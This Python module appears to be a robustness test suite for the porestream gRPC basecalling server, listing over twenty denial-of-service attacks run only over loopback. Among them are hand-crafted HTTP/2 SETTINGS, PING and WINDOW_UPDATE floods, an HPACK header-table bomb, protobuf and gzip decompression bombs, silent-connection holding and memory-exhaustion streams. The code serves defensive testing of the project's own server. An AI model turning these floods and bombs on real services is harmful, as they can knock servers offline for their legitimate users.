"""Attacks that a malicious peer may make on a server. attack.py measures how other clients fare meanwhile.

Each attack is a function that runs until `stop` and returns a few words about what it did. All of them use one loopback
address, and if they need a token, the attacker's. Nothing here leaves this machine.
"""

import contextlib
import itertools
import socket
import ssl
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from multiprocessing.synchronize import Event
from pathlib import Path
from uuid import uuid4

import grpc
import numpy as np
from grpc_health.v1 import health_pb2, health_pb2_grpc

from porestream.client.reads import ReadInfo, RunInfo, SignalRead
from porestream.client.wire import encode_read
from porestream.v1 import porestream_pb2 as pb
from porestream.v1 import porestream_pb2_grpc as pb_grpc

ATTACKERS_ADDRESS = "127.0.0.66"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _SETTINGS, _PING, _WINDOW_UPDATE = 1, 4, 6, 8
_END_HEADERS = 4
_POST = b"\x83\x86\x84"  # from HPACK's static table: POST, http, /
_FIRST_OF_OWN_TABLE = b"\xbe"


@dataclass(frozen=True, slots=True, kw_only=True)
class Victim:
    """How to reach the server."""

    port: int
    health_port: int
    metrics_port: int
    authority: Path
    relay_port: int = 0
    """Port of a relay that connects to the server from the attacker's address, which gRPC cannot choose itself."""


Attack = Callable[[Victim, str, Event], str]


def _many(count: int, one: Callable[[], object]) -> None:
    """Run `one` in this many threads and wait for all of them; ignore refusals."""

    def attempt() -> None:
        with contextlib.suppress(OSError, grpc.RpcError):
            one()

    threads = [threading.Thread(target=attempt, daemon=True) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _connect(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=30, source_address=(ATTACKERS_ADDRESS, 0))


def _encrypted(victim: Victim) -> ssl.SSLSocket:
    context = ssl.create_default_context(cafile=victim.authority)
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(_connect(victim.port), server_hostname="localhost")


@contextlib.contextmanager
def _channel(victim: Victim, port: int | None = None) -> Iterator[grpc.Channel]:
    """Open a separate connection: from the attacker's address to the main port with TLS, or to `port` in plaintext."""
    options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
    if port is None:
        secure = grpc.ssl_channel_credentials(victim.authority.read_bytes())
        channel = grpc.secure_channel(f"localhost:{victim.relay_port}", secure, options)
    else:
        channel = grpc.insecure_channel(f"127.0.0.1:{port}", options)
    with channel:
        yield channel


def _bearer(token: str) -> list[tuple[str, str]]:
    return [("authorization", f"Bearer {token}")]


def steps(samples: int) -> np.ndarray[tuple[int], np.dtype[np.int16]]:
    """Make signal with steps, like real signal."""
    rng = np.random.default_rng(samples)
    levels_S = rng.normal(500, 80, samples // 9 + 1).repeat(9)[:samples]
    return (levels_S + rng.normal(0, 12, samples)).astype(np.int16)


def read_of(signal_S: np.ndarray[tuple[int], np.dtype[np.int16]], run: str) -> SignalRead:
    """Make a read that nobody has sent before."""
    return SignalRead(
        ReadInfo(
            read_id=uuid4(),
            run=RunInfo(run_id=run, sample_rate_hz=4000),
            offset_adc=10.0,
            scale_pa_per_adc=0.2,
            channel=1,
        ),
        signal_S,
    )


# connections


def storms(victim: Victim, _token: str, stop: Event) -> str:
    """Let 100 clients at a time do a TLS handshake, leave, and come back."""
    shaken: list[str | None] = []

    def meet() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError), _encrypted(victim) as encrypted:
                shaken.append(encrypted.version())

    _many(100, meet)
    return f"{len(shaken):,} handshakes"


def _silent(port: int, stop: Event) -> str:
    """Hold 700 connections at a time that send nothing, and reopen each when it is closed."""
    made = itertools.count()

    def wait() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError), _connect(port) as connection:
                next(made)
                connection.settimeout(1)
                while not stop.is_set():
                    with contextlib.suppress(TimeoutError):
                        if not connection.recv(1):
                            break
            time.sleep(0.2)

    _many(700, wait)
    return f"{next(made):,} connections"


def silent(victim: Victim, _token: str, stop: Event) -> str:
    """Hold silent connections to the main port."""
    return _silent(victim.port, stop)


def silent_at_health(victim: Victim, _token: str, stop: Event) -> str:
    """Hold silent connections to the health port."""
    return _silent(victim.health_port, stop)


# HTTP/2 frames


def _frame(kind: int, payload: bytes, flags: int = 0, stream: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _flood(victim: Victim, stop: Event, opening: bytes, more: Iterator[bytes]) -> str:
    """Send frames on four connections as fast as the server takes them, and reopen each when it is closed."""
    sent = Counter[str]()

    def send() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError), _encrypted(victim) as connection:
                sent["connections"] += 1
                connection.settimeout(1)
                connection.sendall(_PREFACE + _frame(_SETTINGS, b"") + opening)
                while not stop.is_set():
                    data = next(more)
                    with contextlib.suppress(TimeoutError):
                        connection.sendall(data)
                        sent["bytes"] += len(data)
            time.sleep(0.05)

    _many(4, send)
    return f"{sent['bytes'] / 1e6:,.1f} MB of frames on {sent['connections']:,} connections"


def settings_flood(victim: Victim, _token: str, stop: Event) -> str:
    """Send SETTINGS frames, each of which the server must acknowledge."""
    return _flood(victim, stop, b"", itertools.repeat(_frame(_SETTINGS, struct.pack(">HI", 3, 100)) * 500))


def ping_flood(victim: Victim, _token: str, stop: Event) -> str:
    """Send PING frames, each of which the server must answer."""
    return _flood(victim, stop, b"", itertools.repeat(_frame(_PING, bytes(8)) * 500))


def window_flood(victim: Victim, _token: str, stop: Event) -> str:
    """Send WINDOW_UPDATE frames of one byte each."""
    return _flood(victim, stop, b"", itertools.repeat(_frame(_WINDOW_UPDATE, struct.pack(">I", 1)) * 500))


def hpack_bomb(victim: Victim, _token: str, stop: Event) -> str:
    """Put a 4,000-byte header in the connection's table, and send blocks that name it 16,000 times, a byte each."""
    size = 4000 - 127
    header = b"\x40\x05x-big\x7f" + bytes([size % 128 + 128, size // 128]) + 4000 * b"a"

    def bombs() -> Iterator[bytes]:
        for number in itertools.count(3, 2):
            yield _frame(_HEADERS, _POST + _FIRST_OF_OWN_TABLE * 16_000, _END_HEADERS, number % 2**31)

    return _flood(victim, stop, _frame(_HEADERS, _POST + header, _END_HEADERS, 1), bombs())


# calls that stay


def _calls_that_stay(
    victim: Victim, stop: Event, open_one: Callable[[grpc.Channel], "grpc.Call"], port: int | None = None
) -> str:
    """Hold 200 calls at a time on 20 connections, and reopen each when it ends."""
    ends = Counter[str]()
    with contextlib.ExitStack() as stack:
        channels = [stack.enter_context(_channel(victim, port)) for _ in range(20)]
        numbers = itertools.count()

        def stay() -> None:
            while not stop.is_set():
                call = open_one(channels[next(numbers) % len(channels)])
                while call.is_active() and not stop.is_set():
                    time.sleep(0.2)
                if not call.is_active():
                    ends[call.code().name] += 1
                call.cancel()
                time.sleep(0.2)

        _many(200, stay)
    told = ", ".join(f"{count:,} {name}" for name, count in ends.most_common(3))
    return f"200 calls at a time; {told or 'none was ended'}"


def _watch_health(channel: grpc.Channel) -> grpc.Call:
    return health_pb2_grpc.HealthStub(channel).Watch(health_pb2.HealthCheckRequest(service="liveness"))


def health_watchers(victim: Victim, _token: str, stop: Event) -> str:
    """Hold Health.Watch calls at the main port, which need no token."""
    return _calls_that_stay(victim, stop, _watch_health)


def watchers_at_health(victim: Victim, _token: str, stop: Event) -> str:
    """Hold Health.Watch calls at the health port."""
    return _calls_that_stay(victim, stop, _watch_health, victim.health_port)


def stats_watchers(victim: Victim, token: str, stop: Event) -> str:
    """Hold WatchStats calls."""
    request = pb.WatchStatsRequest()
    return _calls_that_stay(
        victim,
        stop,
        lambda channel: pb_grpc.BasecallServiceStub(channel).WatchStats(request, metadata=_bearer(token)),
    )


def _talk(
    victim: Victim, token: str, stop: Event, requests: Iterator[pb.StreamReadsRequest]
) -> Iterator[pb.StreamReadsResponse]:
    """Yield the server's responses in a stream on its own connection, which is cut at `stop`."""
    with _channel(victim) as channel, contextlib.suppress(grpc.RpcError):
        call = pb_grpc.BasecallServiceStub(channel).StreamReads(requests, metadata=_bearer(token))
        threading.Thread(target=lambda: (stop.wait(), call.cancel()), daemon=True).start()
        yield from call


def _waiting(stop: Event, *first: pb.StreamReadsRequest) -> Iterator[pb.StreamReadsRequest]:
    yield from first
    stop.wait()


def unopened_streams(victim: Victim, token: str, stop: Event) -> str:
    """Start streams but never send their first message."""
    return _calls_that_stay(
        victim,
        stop,
        lambda channel: pb_grpc.BasecallServiceStub(channel).StreamReads(_waiting(stop), metadata=_bearer(token)),
    )


def _opening(priority: pb.Priority = pb.PRIORITY_STANDARD, run: str = "attack") -> pb.StreamReadsRequest:
    options = pb.CallOptions(priority=priority)
    return pb.StreamReadsRequest(open=pb.OpenStream(run=pb.RunInfo(run_id=run, sample_rate_hz=4000), options=options))


def idle_streams(victim: Victim, token: str, stop: Event) -> str:
    """Open streams and send nothing."""
    return _calls_that_stay(
        victim,
        stop,
        lambda channel: pb_grpc.BasecallServiceStub(channel).StreamReads(
            _waiting(stop, _opening()), metadata=_bearer(token)
        ),
    )


# messages


def _messages(victim: Victim, token: str, stop: Event, message: bytes, **options: object) -> str:
    """Send the same first message in new streams, eight at a time, 20 times in each."""
    ends = Counter[str]()

    def send() -> None:
        with _channel(victim) as channel:
            method = channel.stream_stream("/porestream.v1.BasecallService/StreamReads")
            while not stop.is_set():
                call = method(iter([message] * 20), metadata=_bearer(token), **options)
                try:
                    for _ in call:
                        pass
                except grpc.RpcError as error:
                    ends[error.code().name] += 1
                time.sleep(0.05)

    _many(8, send)
    told = ", ".join(f"{count:,} {name}" for name, count in ends.most_common(3))
    return f"{len(message) / 1e6:.2f} MB a message; {told}"


def protobuf_bomb(victim: Victim, token: str, stop: Event) -> str:
    """Send a request full of empty chunks, which `open` then replaces: small on the wire, large when parsed."""
    chunk = b"\x1a\x00"
    signal = chunk * 500_000
    field = pb.StreamReadsRequest.DESCRIPTOR.fields_by_name["signal"].number
    size, length = b"", len(signal)
    while length >= 128:
        size, length = size + bytes([length % 128 + 128]), length // 128
    return _messages(
        victim, token, stop, bytes([field << 3 | 2]) + size + bytes([length]) + signal + _opening().SerializeToString()
    )


def gzip_bomb(victim: Victim, token: str, stop: Event) -> str:
    """Send 64 MB of zeros, which gRPC compresses to 64 KB."""
    bomb = pb.StreamReadsRequest(signal=pb.SignalBatch(batch_seq=1, chunks=[pb.ReadChunk(signal=bytes(64 << 20))]))
    return _messages(victim, token, stop, bomb.SerializeToString(), compression=grpc.Compression.Gzip)


def odd_runs(victim: Victim, token: str, stop: Event) -> str:
    """Open streams for a run with an impossible id."""
    return _messages(victim, token, stop, _opening(run="r" * 1_000_000).SerializeToString())


def rejected_reads(victim: Victim, token: str, stop: Event) -> str:
    """Send reads with garbage for signal, as fast as the server takes them."""
    sent = Counter[str]()

    def send() -> None:
        def requests() -> Iterator[pb.StreamReadsRequest]:
            yield _opening()
            opened.wait(30)
            for number in itertools.count(1):
                if stop.is_set():
                    return
                while number * 60 * 1024 > credit[0] and not stop.is_set():
                    time.sleep(0.01)
                    yield pb.StreamReadsRequest(result_ack=pb.ResultAck(result_seq=acks[0]))
                chunks = [
                    pb.ReadChunk(
                        read_id=uuid4().bytes,
                        channel=1,
                        sample_count=1000,
                        encoding=pb.SIGNAL_ENCODING_VBZ,
                        signal=b"garbage",
                        end_of_read=True,
                        calibration=pb.Calibration(offset_adc=0, scale_pa_per_adc=1),
                    )
                    for _ in range(60)
                ]
                sent["reads"] += len(chunks)
                yield pb.StreamReadsRequest(signal=pb.SignalBatch(batch_seq=number, chunks=chunks))
                yield pb.StreamReadsRequest(result_ack=pb.ResultAck(result_seq=acks[0]))

        while not stop.is_set():
            opened, credit, acks = threading.Event(), [0], [0]
            for response in _talk(victim, token, stop, requests()):
                if response.WhichOneof("message") == "opened":
                    credit[0] = response.opened.credit.max_total_samples
                    opened.set()
                elif response.WhichOneof("message") == "credit":
                    credit[0] = response.credit.max_total_samples
                elif response.WhichOneof("message") == "results":
                    acks[0] += len(response.results.results)
            time.sleep(0.1)

    _many(4, send)
    return f"{sent['reads']:,} reads"


# streams that take all they can get


def _stream(victim: Victim, token: str, stop: Event, priority: pb.Priority, samples: int, *, ends: bool) -> None:
    """Send reads of this many samples within the credit. If they never end, let ten of them grow in turn."""
    template = list(encode_read(read_of(steps(samples), "attack")).chunks)
    credit, done, opened = [0], [0], threading.Event()

    def chunks() -> Iterator[pb.ReadChunk]:
        ids = [uuid4().bytes for _ in range(10)]
        for turn in itertools.count():
            if ends:
                name = uuid4().bytes
                for chunk in template:
                    copy = pb.ReadChunk.FromString(chunk.SerializeToString())
                    copy.read_id = name
                    yield copy
                continue
            first = template[0]
            for name in ids:
                copy = pb.ReadChunk.FromString(first.SerializeToString())
                copy.read_id, copy.first_sample, copy.end_of_read = name, turn * first.sample_count, False
                yield copy

    def requests() -> Iterator[pb.StreamReadsRequest]:
        yield _opening(priority)
        opened.wait(30)
        used, acknowledged = 0, 0
        for number, chunk in enumerate(chunks(), 1):
            used += max(chunk.sample_count, 1024)
            beat_s = time.monotonic()
            while used > credit[0]:
                if stop.is_set():
                    return
                if done[0] > acknowledged:
                    acknowledged = done[0]
                    yield pb.StreamReadsRequest(result_ack=pb.ResultAck(result_seq=acknowledged))
                elif time.monotonic() - beat_s > 2:
                    beat_s = time.monotonic()
                    yield pb.StreamReadsRequest(heartbeat=pb.Heartbeat())
                time.sleep(0.02)
            if stop.is_set():
                return
            yield pb.StreamReadsRequest(signal=pb.SignalBatch(batch_seq=number, chunks=[chunk]))

    for response in _talk(victim, token, stop, requests()):
        kind = response.WhichOneof("message")
        if kind == "opened":
            credit[0] = response.opened.credit.max_total_samples
            opened.set()
        elif kind == "credit":
            credit[0] = response.credit.max_total_samples
        elif kind == "results":
            done[0] += len(response.results.results)


def _streams(
    victim: Victim, token: str, stop: Event, priority: pb.Priority, samples: int = 40_000, *, ends: bool = True
) -> str:
    opened = itertools.count()

    def go_on() -> None:
        while not stop.is_set():
            next(opened)
            _stream(victim, token, stop, priority, samples, ends=ends)
            time.sleep(0.2)

    _many(20, go_on)
    return f"20 streams at a time, {next(opened):,} in all"


def never_ended_reads(victim: Victim, token: str, stop: Event) -> str:
    """Send reads that never end and grow until no memory is left."""
    return _streams(victim, token, stop, pb.PRIORITY_STANDARD, ends=False)


def live_claim(victim: Victim, token: str, stop: Event) -> str:
    """Send endless reads that claim to be live."""
    return _streams(victim, token, stop, pb.PRIORITY_LIVE)


def short_live_claim(victim: Victim, token: str, stop: Event) -> str:
    """Do the same with short reads, whose last chunks do not fill a batch."""
    return _streams(victim, token, stop, pb.PRIORITY_LIVE, 1500)


def status_page(victim: Victim, _token: str, stop: Event) -> str:
    """Let 30 clients request the status page's figures all the time."""
    asked = itertools.count()

    def ask() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError), _connect(victim.metrics_port) as connection:
                connection.sendall(b"GET /status.json HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                while connection.recv(65536):
                    pass
                next(asked)

    _many(30, ask)
    return f"{next(asked):,} answers"


def reconnects(victim: Victim, token: str, stop: Event) -> str:
    """Open and cut streams, each on its own connection, as fast as possible."""
    opened = itertools.count()

    def come_and_go() -> None:
        while not stop.is_set():
            with _channel(victim) as channel, contextlib.suppress(grpc.RpcError):
                call = pb_grpc.BasecallServiceStub(channel).StreamReads(
                    _waiting(stop, _opening()), metadata=_bearer(token)
                )
                next(call)
                next(opened)
                call.cancel()

    _many(10, come_and_go)
    return f"{next(opened):,} streams"


ATTACKS: dict[str, Attack] = {
    "storms of TLS handshakes, rotations": storms,
    "700 silent connections": silent,
    "700 silent at the health port": silent_at_health,
    "SETTINGS flood": settings_flood,
    "PING flood": ping_flood,
    "WINDOW_UPDATE flood": window_flood,
    "HPACK bomb": hpack_bomb,
    "Health.Watch": health_watchers,
    "Health.Watch at the health port": watchers_at_health,
    "WatchStats": stats_watchers,
    "streams without a first message": unopened_streams,
    "streams that send nothing": idle_streams,
    "streams opened and cut": reconnects,
    "protobuf bomb": protobuf_bomb,
    "gzip bomb": gzip_bomb,
    "a run id of a megabyte": odd_runs,
    "rejected reads": rejected_reads,
    "reads that never end": never_ended_reads,
    "endless LIVE": live_claim,
    "endless LIVE of short reads": short_live_claim,
    "30 at the status page": status_page,
}
FILL_THE_LOG = ("rejected reads",)
